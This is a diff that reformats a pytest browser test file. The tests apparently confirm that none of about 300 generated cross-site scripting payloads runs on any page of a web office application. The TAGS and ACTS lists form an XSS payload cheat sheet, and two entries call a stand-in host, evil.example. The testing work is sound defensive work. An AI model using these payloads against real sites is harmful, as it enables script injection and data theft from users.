@@ -18,19 +18,44 @@ from tests.server import TOKEN, HttpClient, running
 pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.once]
 
 TAGS = [
-    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
-    "<iframe srcdoc='<script>{}</script>'>", "<details open ontoggle={}>",
-    "'\"><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
-    "<a href=javascript:{}>x</a>", "<math><mtext></math><img src=x onerror={}>",
-    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>",
-    "<object data=javascript:{}>", "<form action=javascript:{}><button>",
-    "<style>@import 'javascript:{}'</style>", "<link rel=stylesheet href=javascript:{}>",
-    "<meta http-equiv=refresh content='0;javascript:{}'>", "--><script>{}</script>",
-]  # fmt: skip
-ACTS = ["alert(1)", "alert`1`", "top.alert(1)", "confirm(1)", "prompt(1)",
-        "document.title='x'", "eval('alert(1)')", "import('/x')", "fetch('//evil.example')",
-        "location='//evil.example'", "self['al'+'ert'](1)", "(()=>alert(1))()",
-        "setTimeout('alert(1)')", "new Function('alert(1)')()", "{{7*7}}{% debug %}"]  # fmt: skip
+    "<script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<details open ontoggle={}>",
+    "'\"><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</title><script>{}</script>",
+    "<a href=javascript:{}>x</a>",
+    "<math><mtext></math><img src=x onerror={}>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    "<marquee onstart={}>",
+    "<object data=javascript:{}>",
+    "<form action=javascript:{}><button>",
+    "<style>@import 'javascript:{}'</style>",
+    "<link rel=stylesheet href=javascript:{}>",
+    "<meta http-equiv=refresh content='0;javascript:{}'>",
+    "--><script>{}</script>",
+]
+ACTS = [
+    "alert(1)",
+    "alert`1`",
+    "top.alert(1)",
+    "confirm(1)",
+    "prompt(1)",
+    "document.title='x'",
+    "eval('alert(1)')",
+    "import('/x')",
+    "fetch('//evil.example')",
+    "location='//evil.example'",
+    "self['al'+'ert'](1)",
+    "(()=>alert(1))()",
+    "setTimeout('alert(1)')",
+    "new Function('alert(1)')()",
+    "{{7*7}}{% debug %}",
+]
 PAYLOADS = [tag.format(act) for tag, act in itertools.product(TAGS, ACTS)]
 # Signs that turn text around or cannot be seen (S21).
 TURNED = "".join(chr(code) for code in (0x202E, 0x2066, 0x2067, 0x2069, 0x200B, 0x200D, 0x2060))
@@ -66,8 +91,10 @@ def test_s16_300_payloads_run_nowhere(chromium, site):
     base, page = f"http://127.0.0.1:{site.port}", new_phone(chromium)
     ran, reported = [], []
     page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
-    page.on("console", lambda line: reported.append(line.text)
-            if "Content Security Policy" in line.text else None)  # fmt: skip
+    page.on(
+        "console",
+        lambda line: reported.append(line.text) if "Content Security Policy" in line.text else None,
+    )
     log_in(page, base)
     page.goto(f"{base}/office/")
     go(page.locator("table.queue th a").first)
@@ -96,10 +123,14 @@ def test_s16_300_payloads_run_nowhere(chromium, site):
 
 def multipart(data, filename, content):
     """Return (body, headers) of a form with a file, as a browser writes it."""
-    parts = "".join(f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
-                    for name, value in data.items())  # fmt: skip
-    parts += (f'--x\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
-              f"Content-Type: text/plain\r\n\r\n{content}\r\n--x--\r\n")  # fmt: skip
+    parts = "".join(
+        f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
+        for name, value in data.items()
+    )
+    parts += (
+        f'--x\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
+        f"Content-Type: text/plain\r\n\r\n{content}\r\n--x--\r\n"
+    )
     return parts.encode(), {"Content-Type": "multipart/form-data; boundary=x"}
 
 
@@ -112,13 +143,15 @@ def work_with_hostile_words(client, case):
     words = iter(PAYLOADS)
     for end, given in [
         ("note/", {"text": next(words), "for_next_shift": "on"}),
-        ("do/assign/", {"to": first(r'<option value="(\d+)"[^>]*>Ben<', client.get(case)),
-                        "seen": "0"}),
+        (
+            "do/assign/",
+            {"to": first(r'<option value="(\d+)"[^>]*>Ben<', client.get(case)), "seen": "0"},
+        ),
         ("do/assign/", {"to": "", "seen": "", "reason": next(words)}),
         ("do/raise/", {"reason": next(words)}),
         ("do/correct/", {"change": "state:WY", "reason": next(words)}),
         ("act/", {"text": next(words), "language": "en", "note": next(words), "seen": "new"}),
-    ]:  # fmt: skip
+    ]:
         assert client.post(case + end, given).status_code == 302, end
     # A file name may hold no quotation mark; what was typed of the paper may hold anything.
     name = next(word for word in words if '"' not in word)
@@ -129,12 +162,21 @@ def work_with_hostile_words(client, case):
         ("/office/tags/", {"name": "<img src=x onerror=alert(1)>"}),
         ("/office/lists/?tab=open", {"name": "<svg onload=alert(1)>", "shared": "on"}),
         ("/office/templates/ask/en/", {"text": next(words).replace("{", "("), "keep": "1"}),
-        ("/office/people/invite/", {"username": "eve", "first_name": next(words)[:60],
-                                    "role": "volunteer"}),
+        (
+            "/office/people/invite/",
+            {"username": "eve", "first_name": next(words)[:60], "role": "volunteer"},
+        ),
         ("/office/teams/", {"name": next(words)[:80]}),
-        ("/office/routes/crcl/", {"status": "open", "note": next(words), "contact": next(words),
-                                  "checked_on": "2026-11-01"}),
-    ]:  # fmt: skip
+        (
+            "/office/routes/crcl/",
+            {
+                "status": "open",
+                "note": next(words),
+                "contact": next(words),
+                "checked_on": "2026-11-01",
+            },
+        ),
+    ]:
         assert client.post(path, given).status_code in (200, 302), path
     tag = first(r"/office/tags/(\d+)/drop/", client.get("/office/tags/"))
     client.post(f"{case}do/tags/", {"tags": tag})
@@ -158,8 +200,10 @@ def test_s16_words_of_volunteers_run_on_no_page_of_the_office(chromium, site):
     )
     ran, reported, seen = [], [], 0
     page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
-    page.on("console", lambda line: reported.append(line.text)
-            if "Content Security Policy" in line.text else None)  # fmt: skip
+    page.on(
+        "console",
+        lambda line: reported.append(line.text) if "Content Security Policy" in line.text else None,
+    )
     values = {"pk": [tag, *people], "key": ["ask", "crcl"], "language": ["en"]}
     for name, (_who, methods) in OFFICE.items():
         if "GET" not in methods.split() or not name.startswith("office:"):
@@ -179,11 +223,16 @@ def test_s16_words_of_volunteers_run_on_no_page_of_the_office(chromium, site):
 def addresses(name, case, packet, paper, values):
     """Return the paths of one address of the office, for what is there."""
     reference, there = case.split("/")[3], packet.rstrip("/").rsplit("/", 1)[1]
-    taken = [{}, {"reference": reference}, {"reference": reference, "pk": there},
-             {"reference": reference, "pk": there, "key": "crcl-complaint"},
-             {"reference": reference, "pk": paper.rstrip("/").rsplit("/", 1)[1]},
-             *({"pk": pk} for pk in values["pk"]), *({"key": key} for key in values["key"]),
-             *({"key": key, "language": "en"} for key in values["key"])]  # fmt: skip
+    taken = [
+        {},
+        {"reference": reference},
+        {"reference": reference, "pk": there},
+        {"reference": reference, "pk": there, "key": "crcl-complaint"},
+        {"reference": reference, "pk": paper.rstrip("/").rsplit("/", 1)[1]},
+        *({"pk": pk} for pk in values["pk"]),
+        *({"key": key} for key in values["key"]),
+        *({"key": key, "language": "en"} for key in values["key"]),
+    ]
     for kwargs in taken:
         with suppress(NoReverseMatch):
             yield reverse(name, kwargs=kwargs)
